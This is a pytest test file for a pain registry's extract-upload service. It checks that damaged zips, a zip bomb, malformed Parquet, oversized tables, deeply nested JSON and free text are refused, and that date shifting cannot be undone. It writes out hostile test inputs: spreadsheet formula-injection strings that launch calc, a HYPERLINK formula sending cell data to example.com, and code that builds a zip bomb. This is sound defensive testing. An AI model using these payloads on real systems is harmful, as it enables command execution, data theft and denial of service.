"""The registry as an attacker meets it (issue 16): a damaged or inflated zip, Parquet columns
of the wrong kind, values that a spreadsheet would run or that overflow their column, and a
date shift that its own intervals give away. Every extract here is synthetic."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from typing import Any

import polars as pl
import pytest
from django.contrib.auth.models import User
from django.urls import reverse

from painpath.core.registry import extract as ex
from painpath.registry import services
from painpath.registry.models import PooledAnswer, Site, Upload

MANIFEST = {
    "format": "painpath-extract/1",
    "site": "site-a",
    "registry": "lbp",
    "date_shift": "none",
    "created_at": "2026-11-30T12:00:00+00:00",
    "painpath_version": "0",
    "dictionary_version": "",
}


def _zip() -> bytes:
    buffer = io.BytesIO()
    ex.write_zip(ex.Extract(**ex.empty_tables(), manifest=MANIFEST), buffer)
    return buffer.getvalue()


def _central_entries(content: bytes) -> list[int]:
    return [m.start() for m in re.finditer(b"PK\x01\x02", content)]


def _corrupt_deflate(content: bytes) -> bytes:
    first = zipfile.ZipFile(io.BytesIO(content)).infolist()[0]
    data = bytearray(content)
    data[first.header_offset + 30 + len(first.filename) + 5] ^= 0xFF
    return bytes(data)


def _encrypted(content: bytes) -> bytes:
    data = bytearray(content)
    for at in _central_entries(content):
        data[at + 8] |= 1  # general purpose flag bit 0: encrypted
    return bytes(data)


def _unknown_method(content: bytes) -> bytes:
    data = bytearray(content)
    for at in _central_entries(content):
        data[at + 10] = 97  # no compression method has this number
    return bytes(data)


def _understated_size(content: bytes) -> bytes:
    data = bytearray(content)
    for at in _central_entries(content):
        data[at + 24 : at + 28] = (10).to_bytes(4, "little")  # uncompressed size: 10 bytes
    return bytes(data)


@pytest.mark.parametrize(
    "damage", [_corrupt_deflate, _encrypted, _unknown_method, _understated_size]
)
def test_a_damaged_zip_is_refused_with_a_message_not_a_server_error(
    damage: Callable[[bytes], bytes],
) -> None:
    assert ex.read_extract(_zip()).manifest["site"] == "site-a"

    with pytest.raises(ex.InvalidExtract) as refused:
        ex.read_extract(damage(_zip()))

    assert refused.value.errors and refused.value.errors[0].table in ("zip", "scores.parquet")


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("manifest.json", "{}")
        # 64 MB of zeros in about 64 kB: the same ratio makes 4 GB of 4 MB.
        archive.writestr("scores.csv", b"0" * (64 * 1024**2))
    assert len(buffer.getvalue()) < 1024**2

    with pytest.raises(ex.InvalidExtract) as refused:
        ex.read_extract(buffer.getvalue())

    assert [(e.table, e.message) for e in refused.value.errors] == [
        ("scores.csv", f"unpacks over {ex.MAX_RATIO} times its size")
    ]


@pytest.mark.parametrize(
    ("column", "values"),
    [("patient_id", [["a" * 24]]), ("patient_id", [b"\xff\xfe"]), ("item", [{"a": 1}])],
)
def test_a_parquet_column_of_lists_structs_or_bytes_is_refused(column: str, values: Any) -> None:
    buffer = io.BytesIO()
    pl.DataFrame({column: values}).write_parquet(buffer)

    with pytest.raises(ex.InvalidExtract) as refused:
        ex._parse("answers", "answers.parquet", buffer.getvalue())

    assert [(e.table, e.field) for e in refused.value.errors] == [("answers", column)]


def test_negative_numbers_are_not_taken_for_formulas() -> None:
    for text in ("-1", "-2.5", "+3", "-.5"):
        assert not re.search(ex.FORMULA, text), text
    for text in ("=1+1", "@SUM(A1)", "-cmd|' /C calc'!A0", "+A1", "\t=1"):
        assert re.search(ex.FORMULA, text), text


# --------------------------------------------------------------------------- receiving


def _tampered(made: ex.Extract, table: str, column: str, value: str) -> ex.Extract:
    """The extract with ``value`` in ``column`` of the table's first row."""
    tables = made.tables()
    first = pl.int_range(pl.len()) == 0
    tables[table] = tables[table].with_columns(
        pl.when(first).then(pl.lit(value)).otherwise(pl.col(column)).alias(column)
    )
    return ex.Extract(**tables, manifest=made.manifest)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("table", "column", "value", "message"),
    [
        ("answers", "value", '=HYPERLINK("https://example.com/?"&A1,"3")', "spreadsheet formula"),
        ("answers", "item", "@SUM(1+1)*cmd|' /C calc'!A0", "spreadsheet formula"),
        # A model's max_length: PostgreSQL raised DataError inside the transaction (a 500 and
        # no refusal recorded), SQLite stored any length, so free text could ride along.
        ("answers", "value", "mild " * 60, "longer than 200 characters"),
        ("answers", "wording_id", "x" * 201, "longer than 200 characters"),
        # Free text in lower case passes the identifier scan; the item's range does not.
        ("answers", "value", "delta demosen, 12 main st", "is not an answer in the item's range"),
        ("answers", "value", "99", "is not an answer in the item's range"),
        ("answers", "item", "note", "is not an item of the instrument"),
        # Columns of codes hold the data dictionary's codes, not free text.
        ("scores", "treatment", "talked about her divorce", "not one of the dictionary's codes"),
        ("scores", "protocol", "see notes", "not one of the dictionary's codes"),
        ("scores", "wording", "read aloud", "not one of the dictionary's codes"),
        ("conditions", "code", "fell at home", "is not a diagnosis code"),
        ("procedures", "kind", "injection by dr hansen", "not one of the dictionary's codes"),
    ],
)
def test_a_formula_free_text_or_too_long_a_value_is_refused(
    world: dict[str, Any], table: str, column: str, value: str, message: str
) -> None:
    site: Site = world["sites"]["a"]
    made = services.extract_for_site(site)
    assert made.answers.height

    with pytest.raises(ex.InvalidExtract) as refused:
        services.receive_extract(site, _tampered(made, table, column, value))

    found = [e for e in refused.value.errors if e.field == column and message in e.message]
    assert [(e.table, e.row) for e in found] == [(table, 1)]
    assert not PooledAnswer.objects.filter(site=site).exists()
    assert Upload.objects.get(site=site).status == "refused"
    # The extract as it was made is accepted.
    assert services.receive_extract(site, made).status == "accepted"


@pytest.mark.django_db
def test_a_site_administrator_sees_counts_and_no_pseudonym(
    world: dict[str, Any], make_staff: Callable[..., User], verified_client: Callable[..., Any]
) -> None:
    for site in world["sites"].values():
        services.receive_extract(site, services.extract_for_site(site))
    admin = verified_client(make_staff("site administrator"))

    content = admin.get(reverse("registry:overview")).content.decode()

    pooled = services.pooled_scores()
    assert pooled.height
    for pseudonym in {*pooled["patient_id"].to_list(), *pooled["person_id"].to_list()}:
        assert pseudonym not in content


# --------------------------------------------------------------------------- date shift


def _placed(index: dt.date, answered: dt.date, months: int) -> int:
    """days_from_target as placement computes it: the target is calendar months after the
    index date, clipped to the month's end."""
    month = index.month - 1 + months
    year, month = index.year + month // 12, month % 12 + 1
    for day in range(index.day, 0, -1):
        try:
            return (answered - dt.date(year, month, day)).days
        except ValueError:
            continue
    raise AssertionError("unreachable")


def test_shifted_dates_do_not_give_away_the_true_month_through_days_from_target() -> None:
    # Synthetic persons: index dates through a leap year, answers 4 days after each target.
    rows = []
    for n in range(40):
        index = dt.date(2024, 1, 3) + dt.timedelta(days=9 * n)
        for months in (0, 3, 6, 12, 24):
            answered = index + dt.timedelta(days=round(months * 30.44) + 4)
            pid = f"{n:024x}"
            days = _placed(index, answered, months) if months else (answered - index).days
            rows.append(
                {
                    "patient_id": pid,
                    "person_id": pid,
                    "timepoint": months,
                    "answered_on": answered,
                    "index_date": index,
                    "days_from_target": days,
                }
            )
    scores = pl.DataFrame(rows)
    tables = ex.empty_tables() | {"scores": scores}

    shifted = ex.shift_dates(tables, b"k" * 32, 180)["scores"]

    # What an attacker reads off a row: answered_on − index_date − days_from_target is the
    # target's distance from the index date. It must be the shifted calendar's, not the true
    # calendar's (89 to 92 days for 3 months: with every time point, the true month).
    implied = shifted.select(
        "index_date",
        "timepoint",
        (
            (pl.col("answered_on") - pl.col("index_date")).dt.total_days()
            - pl.col("days_from_target")
        ).alias("implied"),
    )
    for index, months, implied_days in implied.iter_rows():
        expected = _placed(index, index, months) * -1 if months else 0
        assert implied_days == expected, (index, months)
    # The intervals between a person's answers survive the shift.
    before = scores.group_by("patient_id").agg(
        pl.col("answered_on").max() - pl.col("answered_on").min()
    )
    after = shifted.group_by("patient_id").agg(
        pl.col("answered_on").max() - pl.col("answered_on").min()
    )
    assert before.sort("patient_id").equals(after.sort("patient_id"))


@pytest.mark.parametrize("fmt", ["parquet", "csv"])
def test_a_table_file_that_unpacks_to_too_many_values_is_refused_unread(
    fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Measured: 280 kB of Parquet held 50 million rows (1.6 GB read); a smaller limit here
    # keeps the test light, the refusal is the same.
    monkeypatch.setattr(ex, "MAX_CELLS", 1_000_000)
    frame = pl.select(
        pl.repeat("a" * 24, 600_000).alias("patient_id"), pl.repeat("nrs", 600_000).alias("x")
    )
    buffer = io.BytesIO()
    if fmt == "parquet":
        frame.write_parquet(buffer)
        assert len(buffer.getvalue()) < 100_000
    else:
        frame.write_csv(buffer)

    with pytest.raises(ex.InvalidExtract) as refused:
        ex._parse("answers", f"answers.{fmt}", buffer.getvalue())

    assert [e.message for e in refused.value.errors] == [
        "holds 1,200,000 values; at most 1,000,000"
    ]


@pytest.mark.django_db
def test_an_unreadable_upload_on_the_screen_is_refused_on_the_record(
    world: dict[str, Any], make_staff: Callable[..., User], verified_client: Callable[..., Any]
) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from painpath.audit.models import AuditEntry

    site: Site = world["sites"]["a"]
    admin = verified_client(make_staff("site administrator"))

    response = admin.post(
        reverse("registry:upload"),
        {"site": site.pk, "file": SimpleUploadedFile("a.zip", _encrypted(_zip()))},
    )

    assert response.status_code == 400
    refused = Upload.objects.get(site=site)
    assert refused.status == "refused" and "cannot be read" in refused.errors[0]
    assert AuditEntry.objects.filter(code=services.UPLOAD_REFUSED.code).count() == 1


@pytest.mark.django_db
def test_a_contributions_stratum_that_a_spreadsheet_would_run_is_refused(
    world: dict[str, Any],
) -> None:
    from painpath.core.registry import aggregate

    site = Site.objects.create(
        registry=world["registry"], code="site-c", name="c", participation="aggregate"
    )
    # Synthetic: a site's long table, NRS at baseline and 3 months, one stratum value.
    scores = pl.DataFrame(
        {
            "patient_id": [f"c{i}" for i in range(8) for _ in (0, 3)],
            "person_id": [f"c{i}" for i in range(8) for _ in (0, 3)],
            "instrument": "nrs",
            "timepoint": [0, 3] * 8,
            "score": [6.0, 2.0] * 8,
            "wording": "paraphrase",
            "treatment": '=HYPERLINK("https://example.com","open")',
        }
    )
    made = aggregate.aggregate(scores, site="site-c", k=3, registry="lbp", strata=["treatment"])
    sent = aggregate.contribution_document(made, "test")
    assert any(c["stratum"] == scores["treatment"][0] for c in sent["cells"])

    with pytest.raises(ex.InvalidExtract, match="starts like a spreadsheet formula"):
        services.receive_aggregate(site, sent)


@pytest.mark.django_db
def test_a_contribution_nested_too_deep_for_json_is_a_message_not_a_server_error(
    world: dict[str, Any], make_staff: Callable[..., User], verified_client: Callable[..., Any]
) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    site = Site.objects.create(
        registry=world["registry"], code="site-c", name="c", participation="aggregate"
    )
    admin = verified_client(make_staff("site administrator"))
    deep = b"[" * 100_000 + b"]" * 100_000

    response = admin.post(
        reverse("registry:upload"), {"site": site.pk, "file": SimpleUploadedFile("c.json", deep)}
    )

    assert response.status_code == 400
    assert not Upload.objects.filter(site=site, status="accepted").exists()
